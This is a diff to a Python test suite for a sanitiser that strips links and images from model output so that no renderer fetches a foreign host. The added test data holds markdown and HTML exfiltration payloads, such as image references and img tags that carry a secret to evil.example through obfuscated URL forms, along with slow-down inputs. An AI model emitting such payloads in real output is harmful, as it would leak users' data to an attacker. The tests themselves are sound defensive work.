@@ -1,8 +1,12 @@
 """What a model writes carries nothing to a foreign host, and loses none of its words."""
 
+import re
+import time
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from shared.safety.markup import hosts_in, settled, strip_markup
 
@@ -30,12 +34,64 @@ CARRIERS = {
     "an address that begins with www": (f"www.evil.example/{SECRET}", ""),
     "an autolink": (f"<https://evil.example/{SECRET}>", ""),
     "data": (f"data:text/html,{SECRET}", ""),
+    "an address in emphasis": (f"_https://evil.example/{SECRET}_", "_"),
+    "a bare name with a path": (f"evil.com/{SECRET}", ""),
+    "a title with a bracket": (f'[plan](///evil.example/{SECRET} "(")', '[plan]( "(")'),
+}
+FOREIGN = [
+    "///evil.example/p",
+    "http:evil.example/p",
+    "https:evil.example/p",
+    "//%65vil.example/p",
+    r"/\evil.example/p",
+]
+REFERENCES = {
+    "in a list": "![a][r]\n\n- [r]: {}",
+    "in a quote": "![a][r]\n\n> [r]:\n> {}",
+    "behind a tab": "![a][r]\n\n>\t[r]: {}",
+    "behind a carriage return": "![a][r]\n\nb\r\r[r]: {}",
+    "with a bracket in its name": "![a][r\\]x]\n\n[r\\]x]: {}",
+    "with a long name": f"![a][{'r' * 300}]\n\n[{'r' * 300}]: {{}}",
+    "over two lines": "![a][r x]\n\n[r\nx]: {}",
+    "with a blank": "![a][r]\n\n[r]: <{} x>",
+    "as an attribute around a tag": '<img alt="<" src="{}">',
+    "as an attribute without quotes": "<img < src={} x>",
 }
 
 
 @pytest.mark.parametrize(("text", "words"), CARRIERS.values(), ids=CARRIERS.keys())
 def test_nothing_that_a_renderer_would_fetch_or_follow_is_left(text: str, words: str) -> None:
     assert strip_markup(f"Rest well. {text} Then go on.") == f"Rest well. {words} Then go on."
+
+
+@pytest.mark.parametrize("address", FOREIGN)
+@pytest.mark.parametrize("text", REFERENCES.values(), ids=REFERENCES.keys())
+def test_no_renderer_finds_the_host_of_an_address_that_is_elsewhere(text: str, address: str) -> None:
+    shown = MarkdownIt("commonmark", {"html": True}).render(strip_markup(text.format(address)))
+    assert "vil.example" not in shown
+
+
+def test_a_tag_around_another_stays_text_and_so_does_a_comparison() -> None:
+    assert strip_markup('<img alt="<" src="x">') == '< img alt="<" src="x">'
+    assert strip_markup("x<y and z<w") == "x< y and z<w"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<a " + "=" * 50000 + "<",
+        "[a]:" + " " * 50000 + "\n\n",
+        "![" * 25000,
+        "<script" * 7000,
+        "[a](" * 12000,
+        "a." * 25000,
+    ],
+    ids=["tag", "definition", "image", "script", "link", "name"],
+)
+def test_no_text_makes_it_slow(text: str) -> None:
+    begun = time.process_time()
+    strip_markup(text)
+    assert time.process_time() - begun < 2
 
 
 def test_a_tag_that_never_ends_takes_the_rest_with_it_as_in_a_browser() -> None:
@@ -53,6 +109,7 @@ def test_an_image_by_reference_loses_what_it_refers_to() -> None:
         "Do 3 sets of 8-12 reps, rest 60-90 s [p1].",
         "- **Protein**: 1.6 g/kg (e.g. 120 g)\n- [ ] task\n\n| a | b |\n|---|---|\n| 1 | 2 |",
         "If a < b and 5 > 3, then <5 reps; x<y.",
+        "See plan.md, 1.5/2.0 or e.g./i.e., sets.Rest/walk; a // b.",
         "Ratio 3:1, at 10:30. Note: data: see above. Either/or, and/or, km/h.",
         "[Note]: eat well\nok [1], [a, b] (sic) and great![1]",
         "休息六十秒。每周三次。",
@@ -91,7 +148,31 @@ def test_a_stream_in_a_language_without_blanks_is_not_held_back() -> None:
 
 MARKUP = st.lists(
     st.sampled_from(
-        ["[", "]", "(", ")", "!", "<", ">", "a", " ", "\n", "https://e.x/", "\\", "&#104;", ":", '"', "//", "img", "ä"]
+        [
+            "///",
+            "http:",
+            "[r]: ",
+            "=",
+            "[",
+            "]",
+            "(",
+            ")",
+            "!",
+            "<",
+            ">",
+            "a",
+            " ",
+            "\n",
+            "https://e.x/",
+            "\\",
+            "&#104;",
+            ":",
+            '"',
+            "//",
+            "img",
+            "ä",
+            "e.x/",
+        ]
     ),
     max_size=40,
 ).map("".join)
@@ -100,6 +181,6 @@ MARKUP = st.lists(
 @given(MARKUP)
 def test_whatever_is_written_no_address_is_left_and_a_second_look_changes_nothing(text: str) -> None:
     once = strip_markup(text)
-    assert "https://e.x" not in once
+    assert not re.search(r"https?:e|//e", once)
     assert strip_markup(once) == once
     assert not settled(text) > len(text)
